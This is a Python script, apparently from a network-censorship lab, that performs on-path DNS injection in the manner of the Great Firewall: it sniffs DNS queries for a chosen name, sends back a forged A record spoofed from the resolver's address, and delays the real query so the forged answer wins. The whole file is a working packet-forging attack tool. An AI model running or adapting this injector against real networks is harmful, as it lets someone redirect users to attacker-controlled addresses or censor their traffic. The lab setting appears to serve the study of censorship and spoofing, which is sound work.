#!/usr/bin/env python3
"""The lab censor's on-path DNS injector (the Great Firewall's way).

Usage: dnsinject.py --iface IF --name NAME --forge IP [--delay-ms MS] [--lifetime SEC]
Runs in vt-censor. It reads the UDP DNS queries entering IF (AF_PACKET) for NAME, whatever the
resolver they go to, answers each A query at once with a forged A record (source: the resolver's
address), and sends the original query on MS later (its source address kept): the real answer
comes second. iptables must drop the original in FORWARD (the scenario's rule), or the real
answer would race the forged one.
"""
import socket
import struct
import sys
import threading
import time

ETH_P_IP = 0x0800
PACKET_OUTGOING = 4


def checksum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def ip_packet(src, dst, sport, dport, payload):
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0x4000, 64, 17, 0,
                      socket.inet_aton(src), socket.inet_aton(dst))
    hdr = hdr[:10] + struct.pack("!H", checksum(hdr)) + hdr[12:]
    return hdr + udp


def qname(dns):
    p, labels = 12, []
    while p < len(dns) and dns[p]:
        n = dns[p]
        labels.append(dns[p + 1:p + 1 + n].decode("ascii", "replace"))
        p += 1 + n
    return ".".join(labels).lower(), p + 1


def resend(out, pkt, dst):
    """The original query, sent as a frame on the way to the resolver: netfilter never sees it
    (the scenario's rule dropped the original in FORWARD), so the real answer still comes."""
    mac = None
    with open("/proc/net/arp") as f:  # the next hop: the resolver on the censor's server side
        for line in f.read().splitlines()[1:]:
            p = line.split()
            if p[0] == dst and p[3] != "00:00:00:00:00:00":
                mac, dev = bytes.fromhex(p[3].replace(":", "")), p[5]
    if not mac:
        print("resend: no neighbour entry for %s" % dst, file=sys.stderr, flush=True)
        return
    try:
        out.sendto(pkt, (dev, ETH_P_IP, 0, 0, mac))
    except OSError as e:
        print("resend: %s" % e, file=sys.stderr, flush=True)


def main():
    a = sys.argv[1:]
    opts = {"--delay-ms": "300", "--lifetime": "120"}
    while a:
        k = a.pop(0)
        opts[k] = a.pop(0)
    name, forge = opts["--name"].lower(), opts["--forge"]
    delay = int(opts["--delay-ms"]) / 1000.0
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
    sniff.bind((opts["--iface"], ETH_P_IP))
    sniff.settimeout(0.5)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    out = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
    print("listening", flush=True)
    deadline = time.time() + float(opts["--lifetime"])
    while time.time() < deadline:
        try:
            pkt, addr = sniff.recvfrom(65535)
        except socket.timeout:
            continue
        if addr[2] == PACKET_OUTGOING or len(pkt) < 28 or pkt[9] != 17:
            continue
        ihl = (pkt[0] & 0x0F) * 4
        src, dst = socket.inet_ntoa(pkt[12:16]), socket.inet_ntoa(pkt[16:20])
        sport, dport = struct.unpack("!HH", pkt[ihl:ihl + 4])
        dns = pkt[ihl + 8:]
        if dport != 53 or len(dns) < 17 or dns[2] & 0x80:
            continue
        q, end = qname(dns)
        if q != name and not q.endswith("." + name):
            continue
        qtype = struct.unpack("!H", dns[end:end + 2])[0]
        if qtype == 1:  # A: the forged answer, now
            ans = (dns[:2] + struct.pack("!HHHHH", 0x8180, 1, 1, 0, 0) + dns[12:end + 4] +
                   struct.pack("!HHHIH", 0xC00C, 1, 1, 60, 4) + socket.inet_aton(forge))
            raw.sendto(ip_packet(dst, src, 53, sport, ans), (src, 0))
        # the original, late: the real resolver's answer arrives second
        # the UDP checksum zeroed (none, as IPv4 allows): a veth's offload leaves it partial
        pkt = pkt[:ihl + 6] + b"\0\0" + pkt[ihl + 8:]
        t = threading.Timer(delay, resend, (out, pkt, dst))
        t.daemon = True
        t.start()


if __name__ == "__main__":
    main()
